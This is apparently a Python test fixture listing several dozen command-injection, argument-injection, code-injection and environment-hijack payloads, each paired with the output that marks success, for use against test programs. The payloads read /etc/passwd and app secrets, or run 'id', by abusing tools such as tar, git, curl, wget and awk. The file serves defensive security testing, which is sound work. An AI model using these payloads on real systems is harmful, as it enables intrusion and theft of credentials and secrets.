"""Attacks on programs."""

import base64

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.third import http, s3

NEEDS = ("aws-http",)
ID = "uid="
ROOT = "root:x:0"
ATTACKS = [
    Attack("shell", "ping", {"host": "8.8.8.8; id"}, ID),
    Attack("shell", "ping", {"host": "8.8.8.8 && cat /etc/passwd"}, ROOT),
    Attack("shell", "ping", {"host": "$(cat /etc/passwd | head -1)"}, ROOT),
    Attack("shell", "ping", {"host": "x\nid"}, ID),
    Attack("shell", "ping", {"host": "x > /dev/null || true; cat app.py | grep SECRET"}, "prog-secret-91"),
    Attack("shell", "convert", s3("uploads/a.png%3Bid%3B.png"), ID),
    Attack("shell", "convert", s3("uploads/%60id%60.png"), ID),
    Attack("shell", "quoted_single", {"title": "x'; id; echo '"}, ID),
    Attack("shell", "quoted_double", http("POST", "/x", {"title": "$(id)"}), ID),
    Attack("shell", "quoted_double", http("POST", "/x", {"title": '"; id; echo "'}), ID),
    Attack("shell", "system", {"text": "hi | id"}, ID),
    Attack("shell", "async_shell", {"path": "/dev/null; id"}, ID),
    Attack("shell", "popen_list", {"folder": "/tmp `id`"}, ID),
    Attack("shell", "bash_script", {"name": "x; id"}, ID),
    Attack("shell", "bash_script", {"name": "$(id)"}, ID),
    Attack("shell", "stdin_shell", {"branch": "main & id; wait"}, ID),
    Attack("shell", "from_base64", {"data": base64.b64encode(b"x; id").decode()}, ID),
    Attack("shell", "no_spaces", {"host": "x|id"}, ID),
    Attack("shell", "no_spaces", {"host": "x&&cat${IFS}/etc/passwd"}, ROOT),
    Attack("shell", "no_spaces", {"host": "x|{cat,/etc/passwd}|cat</etc/passwd"}, ROOT),
    Attack("shell", "many_parts", {"parts": ["x", ";", "i", "d"]}, ID),
    Attack("shell", "spawn", {"x": "`id`"}, ID),
    Attack("shell", "xargs", {"lines": "a; id\n"}, ID),
    Attack("options", "shell_split", {"name": "app.py -exec head -1 /etc/passwd ;"}, ROOT),
    Attack("options", "shell_split", {"name": "x -o -name app.py -exec grep SECRET {} +"}, "prog-secret-91"),
    Attack("options", "tar", {"files": ["--checkpoint=1", "--checkpoint-action=exec=id >&2", "a.txt"]}, ID),
    Attack("options", "tar", {"files": ["--use-compress-program=sh -c 'id >&2'", "a.txt"]}, ID),
    Attack("options", "git_remote", {"branch": "--upload-pack=id >&2;"}, ID),
    Attack("options", "git_log", {"ref": "--output=/tmp/git-written"}, "true"),
    Attack("options", "git_option", {"setting": "alias.x-alias=!id"}, ID),
    Attack("options", "curl", {"url": "file:///etc/passwd"}, ROOT),
    Attack("options", "curl", {"url": "-K/etc/passwd"}, "etc/passwd:"),
    Attack("options", "curl_data", {"note": "@/etc/passwd"}, ROOT),
    Attack("options", "curl_config", {"headers": ["-F", "x=@/etc/passwd"]}, ROOT),
    Attack("options", "zip_files", {"names": ["z.txt", "-T", "-TT", "sh -c 'id >&2'"]}, ID),
    Attack("options", "awk_variable", {"options": ["-v", "x=1", 'BEGIN { system("id") }']}, ID),
    Attack("options", "sort", {"flag": "--files0-from=/etc/passwd"}, ROOT),
    Attack("options", "grep", {"pattern": "root", "file": "/etc/passwd"}, ROOT),
    Attack("options", "grep", {"pattern": "SECRET =", "file": "/var/task/app.py"}, "prog-secret-91"),
    Attack("options", "make", {"target": "--eval=$(info $(shell id))"}, ID),
    Attack("options", "openssl", {"options": "-in /etc/passwd -A"}, "cm9vdDp4OjA"),
    Attack("options", "env_program", {"assignment": "--split-string=cat /etc/passwd"}, ROOT),
    Attack("options", "wget", {"option": "--post-file=/etc/passwd"}, ROOT),
    Attack("options", "xz_gpg", {"name": "-f/etc/passwd"}, "root:"),
    Attack("program code", "awk", {"name": 'x") print; system("id"); if ("a'}, ID),
    Attack("program code", "sed", {"to": "x/;1e id\n#"}, ID),
    Attack("program code", "jq", {"name": '" + ($ENV | tostring) + "'}, "PATH"),
    Attack("program code", "perl", {"text": "'); system('id'); print('"}, ID),
    Attack(
        "program code",
        "node",
        {"text": "'); console.log(require('child_process').execSync('id').toString()); ('"},
        ID,
    ),
    Attack("program code", "python_c", {"text": "'), __import__('os').system('id'), ('"}, ID),
    Attack("program code", "sqlite_program", {"query": ".shell id"}, ID),
    Attack("program name", "any_program", {"tool": "id", "args": []}, ID),
    Attack("program name", "any_program", {"tool": "cat", "args": ["/etc/passwd"]}, ROOT),
    Attack(
        "environment",
        "environment",
        {"env": {"BASH_ENV": "/tmp/prog-note.txt"}},
        ID,
        before=[("system", {"text": "'id'"})],
    ),
    Attack("environment", "environment", {"env": {"BASH_FUNC_echo%%": "() { id; }"}}, ID),
    Attack(
        "environment", "perl_environment", {"env": {"PERL5OPT": "-Mbase;print(`id`)", "PERL5DB": "x"}}, ID
    ),
    Attack(
        "environment",
        "git_environment",
        {"env": {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "alias.x-go", "GIT_CONFIG_VALUE_0": "!id"}},
        ID,
    ),
    Attack("shell, second order", "run_kept", {}, ID, before=[("keep", {"name": "x; id"})]),
]
